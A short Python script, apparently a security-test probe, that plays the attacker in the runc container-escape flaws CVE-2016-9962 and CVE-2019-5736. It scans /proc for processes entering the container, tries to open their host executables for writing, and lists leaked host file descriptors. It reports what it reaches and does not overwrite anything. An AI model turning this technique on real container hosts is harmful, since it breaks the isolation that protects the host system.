"""The attacker's side of CVE-2016-9962 and CVE-2019-5736: the container's first process looks at each
process that enters, before it has become its program.

Prints "ready", then a line for whatever it gets hold of that is not the container's own.
"""
import os
import sys
import time

OWN_EXECUTABLES = ("/usr/", "/bin/")
print("ready", flush=True)
end = time.monotonic() + float(sys.argv[1])
seen = set()
while time.monotonic() < end:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or pid == str(os.getpid()):
            continue
        try:
            executable = os.readlink(f"/proc/{pid}/exe")
            if not executable.startswith(OWN_EXECUTABLES):
                seen.add(f"executable {executable}")
                os.close(os.open(f"/proc/{pid}/exe", os.O_WRONLY))
                seen.add(f"writable {executable}")
        except OSError:
            pass
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                if int(fd) > 2 and target.startswith("/") and not target.startswith(("/usr", "/proc", "/etc", "/lib", "/dev")):
                    seen.add(f"descriptor {target}")
        except OSError:
            pass
for line in sorted(seen):
    print(line, flush=True)
print("done", flush=True)
